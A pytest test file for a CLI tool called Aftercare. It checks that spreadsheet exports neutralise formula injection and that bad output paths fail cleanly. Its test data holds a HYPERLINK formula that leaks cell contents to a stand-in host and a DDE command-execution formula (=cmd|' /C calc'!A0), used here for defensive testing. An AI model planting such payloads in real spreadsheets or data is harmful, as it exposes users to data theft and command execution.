"""Files the CLI writes: safe spreadsheets, and exit codes that keep their promise (issue 9, 3–4).

A store on DuckDB and on PostgreSQL whose customer and advisor names are spreadsheet
formulas (``=HYPERLINK(…)``, a DDE call ``=cmd|' /C calc'!A0``), whose order categories
are one too, and whose refunds are negative amounts:

- every XLSX Aftercare writes (``export --out x.xlsx``, the report, the call sheets) holds
  those names as string cells with the literal text, and no formula or link anywhere;
- a CSV export starts with a UTF-8 BOM and prefixes such text cells with ``'`` (OWASP), but
  never a number; ``--raw`` and ``--no-bom`` give the cells and bytes as stored;
- an output path that cannot be written (``import --rejects``, ``export --out``, ``report
  --out``, ``--call-sheets``) stops the command before anything is read or stored: exit 1,
  one line naming the path, no traceback, the store's rows as they were.
"""

from __future__ import annotations

import csv
import errno
import os
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from aftercare.cli import app
from aftercare.services.imports import import_file
from aftercare.services.outputs import OutputPathError
from aftercare.store import open_store
from outcome_rows import make_actions

runner = CliRunner()
AFTERCARE = str(Path(sys.executable).parent / "aftercare")
AS_OF = "2024-06-30"
HYPERLINK = '=HYPERLINK("http://x.test/?leak="&A1,"点我")'
DDE = "=cmd|' /C calc'!A0"

CUSTOMERS = [
    ["customer_id", "name", "phone"],
    ["C1", HYPERLINK, "13800000001"],
    ["C2", DDE, "+8613800000002"],
    ["C3", "王伟", "-"],
]
ADVISORS = [["advisor_id", "name", "store_id", "role"], ["S1", DDE, "ST1", "advisor"]]
ORDERS = [
    ["order_id", "customer_id", "open_date", "category", "payer", "total_amount"],
    ["RO1", "C1", "2024-05-02", "=1+1", "customer", "1200"],
    ["RO2", "C1", "2024-05-09", "maintenance", "customer", "-200"],  # a credit note
    ["RO3", "C2", "2024-06-01", "repair", "customer", "800"],
]


def _write(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    return path


def _import(url: str, table: str, path: Path, *extra: str) -> None:
    result = runner.invoke(app, ["import", table, str(path), "--db", url, *extra])
    assert result.exit_code == 0, result.output


def _action(action_id: str, customer_id: str) -> dict[str, str]:
    """An open action of advisor S1 due in the week of AS_OF."""
    return {"action_id": action_id, "rule_id": "A-CARE-90D", "customer_id": customer_id,
            "due_date": "2024-06-28", "priority": "high", "advisor_id": "S1"}  # fmt: skip


@pytest.fixture(scope="module")
def db(shared_store_url, tmp_path_factory) -> str:
    tmp = tmp_path_factory.mktemp("outputs")
    url = shared_store_url
    for table, rows in (
        ("customers", CUSTOMERS),
        ("advisors", ADVISORS),
        ("service_orders", ORDERS),
    ):
        _import(url, table, _write(tmp / f"{table}.csv", rows))
    with open_store(url, create=False) as store:
        store.con.insert("actions", make_actions([_action("X1", "C1"), _action("X2", "C2")]))
    return url


def every_cell(path: Path) -> list:
    book = openpyxl.load_workbook(path)
    return [c for ws in book for row in ws.iter_rows() for c in row if c.value is not None]


def assert_text_cells(path: Path, texts: list[str]) -> None:
    """No formula or link in the workbook; each of ``texts`` is (in) a string cell."""
    cells = every_cell(path)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [c.coordinate for c in cells if c.hyperlink is not None] == []
    strings = [c.value for c in cells if c.data_type == "s"]
    for text in texts:
        assert any(text in s for s in strings), f"{text!r} is not a text cell of {path.name}"


def _export(db: str, table: str, out: Path, *extra: str) -> Path:
    result = runner.invoke(app, ["export", table, "--out", str(out), "--db", db, *extra])
    assert result.exit_code == 0, result.output
    return out


# --- safe spreadsheets --------------------------------------------------------------------


@pytest.mark.parametrize("table", ["customers", "service_orders", "actions", "advisors"])
def test_xlsx_export_writes_every_text_cell_as_text(db, tmp_path, table):
    out = _export(db, table, tmp_path / f"{table}.xlsx")
    expected = {"customers": [HYPERLINK, DDE, "+8613800000002", "-"], "service_orders": ["=1+1"],
                "actions": [HYPERLINK, DDE], "advisors": [DDE]}  # fmt: skip
    assert_text_cells(out, expected[table])


def test_xlsx_export_keeps_the_exact_text(db, tmp_path):
    ws = openpyxl.load_workbook(_export(db, "customers", tmp_path / "c.xlsx")).active
    names = {r[0].value: (r[1].value, r[1].data_type) for r in ws.iter_rows(min_row=2)}
    assert names == {"C1": (HYPERLINK, "s"), "C2": (DDE, "s"), "C3": ("王伟", "s")}


def _csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def test_csv_export_has_a_bom_and_neutralised_text_cells(db, tmp_path):
    out = _export(db, "customers", tmp_path / "c.csv")
    assert out.read_bytes()[:3] == b"\xef\xbb\xbf"
    rows = {r["customer_id"]: r for r in _csv(out)}
    assert (rows["C1"]["name"], rows["C2"]["name"]) == ("'" + HYPERLINK, "'" + DDE)
    assert (rows["C2"]["phone"], rows["C3"]["phone"]) == ("'+8613800000002", "'-")
    assert rows["C3"]["name"] == "王伟"
    orders = {r["order_id"]: r for r in _csv(_export(db, "service_orders", tmp_path / "o.csv"))}
    assert orders["RO1"]["category_raw"] == "'=1+1"
    # A negative amount is a number, not text: it is never prefixed.
    assert float(orders["RO2"]["total_amount"]) == -200 and orders["RO2"]["total_amount"][0] == "-"


def test_csv_export_raw_and_no_bom_write_what_is_stored(db, tmp_path):
    out = _export(db, "customers", tmp_path / "c.csv", "--raw", "--no-bom")
    assert out.read_bytes()[:13] == b'"customer_id"'
    with out.open(encoding="utf-8", newline="") as fh:
        rows = {r["customer_id"]: r for r in csv.DictReader(fh)}
    assert (rows["C1"]["name"], rows["C2"]["name"], rows["C3"]["phone"]) == (HYPERLINK, DDE, "-")


def test_mart_csv_export_has_a_bom(db, tmp_path):
    out = _export(db, "churn_risk", tmp_path / "risk.csv", "--as-of", AS_OF)
    assert out.read_bytes()[:3] == b"\xef\xbb\xbf"
    assert {r["customer_id"] for r in _csv(out)} == {"C1", "C2", "C3"}


@pytest.mark.parametrize("flag", ["--raw", "--no-bom"])
def test_raw_and_no_bom_are_for_csv_only(db, tmp_path, flag):
    result = runner.invoke(
        app, ["export", "customers", "--out", str(tmp_path / "c.xlsx"), flag, "--db", db]
    )
    assert result.exit_code == 2
    assert "applies to .csv exports only" in result.output
    assert not (tmp_path / "c.xlsx").exists()


def test_report_and_call_sheets_write_names_as_text(db, tmp_path):
    report, sheets = tmp_path / "r.xlsx", tmp_path / "c.xlsx"
    result = runner.invoke(
        app,
        ["report", "--as-of", AS_OF, "--out", str(report), "--call-sheets", str(sheets),
         "--db", db],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    assert_text_cells(report, [DDE])  # the advisor in this week's actions
    # The summary's advisor label; the advisor's sheet: customer, phone and script.
    assert_text_cells(sheets, [f"{DDE} (S1)", HYPERLINK, "+8613800000002"])


# --- exit codes that keep their promise ---------------------------------------------------


def _store_state(url: str) -> dict[str, object]:
    """What a failed command must leave as it was: rows, names, loads, rejects, snapshots."""
    with open_store(url, create=False) as store:
        counts = {
            t: int(store.table(t).count().execute())
            for t in ("customers", "load_log", "rejected_rows", "customer_scores", "actions")
        }
        names = store.table("customers").select("customer_id", "name").to_pyarrow()
    return {**counts, "names": sorted(names.to_pylist(), key=lambda r: r["customer_id"])}


@pytest.fixture
def unwritable(tmp_path):
    """A folder nobody may create files in (root may, except in sysfs)."""
    if os.geteuid() == 0:
        if not Path("/sys").is_dir():
            pytest.skip("running as root without /sys: no folder root cannot write in")
        yield Path("/sys")
        return
    folder = tmp_path / "read-only"
    folder.mkdir()
    folder.chmod(0o555)
    yield folder
    folder.chmod(0o755)


def _bad_path(kind: str, tmp_path: Path, unwritable: Path, name: str) -> tuple[Path, str]:
    """A path of ``kind`` that cannot be written, and the words the message must hold."""
    if kind == "missing folder":
        return tmp_path / "no" / "such" / name, "does not exist"
    if kind == "file as folder":
        plain = tmp_path / "plain.txt"
        plain.write_text("x")
        return plain / name, "is not a folder"
    if kind == "name too long":
        return tmp_path / ("a" * 300 + Path(name).suffix), "File name too long"
    if kind == "a folder":
        folder = tmp_path / name
        folder.mkdir()
        return folder, "is a folder"
    return unwritable / name, "cannot write in folder"


CHANGED_CUSTOMERS = [
    ["customer_id", "name", "phone"],
    ["C1", "changed", "13900000001"],
    ["", "no id", "13900000009"],  # rejected: the rejects file would be written
]
COMMANDS = {
    "import --rejects": (["import", "customers", "{file}", "--rejects", "{path}"], "x.csv"),
    "export --out": (["export", "customers", "--out", "{path}"], "x.xlsx"),
    "report --out": (["report", "--as-of", AS_OF, "--out", "{path}"], "r.html"),
    "report --call-sheets": (["report", "--as-of", AS_OF, "--call-sheets", "{path}"], "c.xlsx"),
}
BAD_KINDS = ("missing folder", "file as folder", "a folder", "unwritable folder", "name too long")


@pytest.mark.parametrize("kind", BAD_KINDS)
@pytest.mark.parametrize("command", list(COMMANDS))
def test_r_in_1_bad_output_path_exits_1_in_one_line_with_nothing_changed(
    db, tmp_path, unwritable, command, kind
):
    args, name = COMMANDS[command]
    path, words = _bad_path(kind, tmp_path, unwritable, name)
    file = _write(tmp_path / "customers.csv", CHANGED_CUSTOMERS)
    before = _store_state(db)
    result = runner.invoke(
        app, [a.format(file=file, path=path) for a in args] + ["--db", db], catch_exceptions=True
    )
    assert result.exit_code == 1, result.output
    assert isinstance(result.exception, SystemExit), result.exception  # no traceback
    lines = result.output.strip().splitlines()
    assert len(lines) == 1 and str(path) in lines[0] and words in lines[0], result.output
    assert _store_state(db) == before
    assert not [p for p in tmp_path.rglob("*") if ".part" in p.name]


def test_import_with_unwritable_rejects_changes_nothing_in_a_real_process(db, tmp_path, unwritable):
    # The case: rows were committed, then a traceback with exit 1.
    file = _write(tmp_path / "customers.csv", CHANGED_CUSTOMERS)
    before = _store_state(db)
    rejects = unwritable / "x.csv"
    done = subprocess.run(
        [AFTERCARE, "import", "customers", str(file), "--rejects", str(rejects), "--db", db],
        capture_output=True, text=True, timeout=300, check=False,
    )  # fmt: skip
    assert done.returncode == 1, done.stderr
    assert "Traceback" not in done.stderr + done.stdout
    assert done.stderr.strip().splitlines() == [
        f"error: --rejects {rejects}: cannot write in folder {unwritable} "
        f"({os.strerror(errno.EACCES)})"
    ]
    assert _store_state(db) == before


def test_import_service_checks_rejects_before_storing(db, tmp_path):
    file = _write(tmp_path / "customers.csv", CHANGED_CUSTOMERS)
    before = _store_state(db)
    with (
        open_store(db, create=False) as store,
        pytest.raises(OutputPathError, match=r"--rejects .*: folder .* does not exist"),
    ):
        import_file(store, "customers", file, rejects_path=tmp_path / "none" / "x.csv")
    assert _store_state(db) == before


def test_failed_import_leaves_no_rejects_file(db, tmp_path, monkeypatch):
    import aftercare.services.imports as imports

    def crash(*args, **kwargs):
        raise RuntimeError("crash at commit")

    monkeypatch.setattr(imports, "apply_load", crash)
    file = _write(tmp_path / "customers.csv", CHANGED_CUSTOMERS)
    rejects = tmp_path / "out" / "rejects.csv"
    rejects.parent.mkdir()
    with open_store(db, create=False) as store, pytest.raises(RuntimeError, match="at commit"):
        import_file(store, "customers", file, rejects_path=rejects)
    assert list(rejects.parent.iterdir()) == []


def test_export_to_a_long_file_name(db, tmp_path):
    # 240 characters: the file fits the folder; its staged twin must fit too.
    out = _export(db, "customers", tmp_path / ("c" * 236 + ".csv"))
    assert list(tmp_path.iterdir()) == [out]


def test_failed_export_leaves_the_old_file(db, tmp_path):
    out = tmp_path / "x.csv"
    out.write_text("old")
    result = runner.invoke(app, ["export", "nope", "--out", str(out), "--db", db])
    assert result.exit_code == 1 and "no table 'nope'" in result.output
    assert out.read_text() == "old" and list(tmp_path.iterdir()) == [out]


def test_r_in_1_rejects_file_neutralises_formulas_and_has_a_bom(db, tmp_path):
    """The --rejects CSV quotes the DMS's cells back: a formula among them is not run."""
    rows = [["name", "customer_id", "phone"], ["=cmd|' /C calc'!A0", "", "13900000009"]]
    file = _write(tmp_path / "customers.csv", rows)
    rejects = tmp_path / "rejects.csv"
    result = runner.invoke(
        app, ["import", "customers", str(file), "--rejects", str(rejects), "--db", db]
    )
    assert result.exit_code == 3, result.output
    raw = rejects.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Chinese Excel shows the text
    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
    assert rows and all(not r["raw_record"].startswith("=") for r in rows)
    assert any("=cmd|' /C calc'!A0" in r["raw_record"] for r in rows)
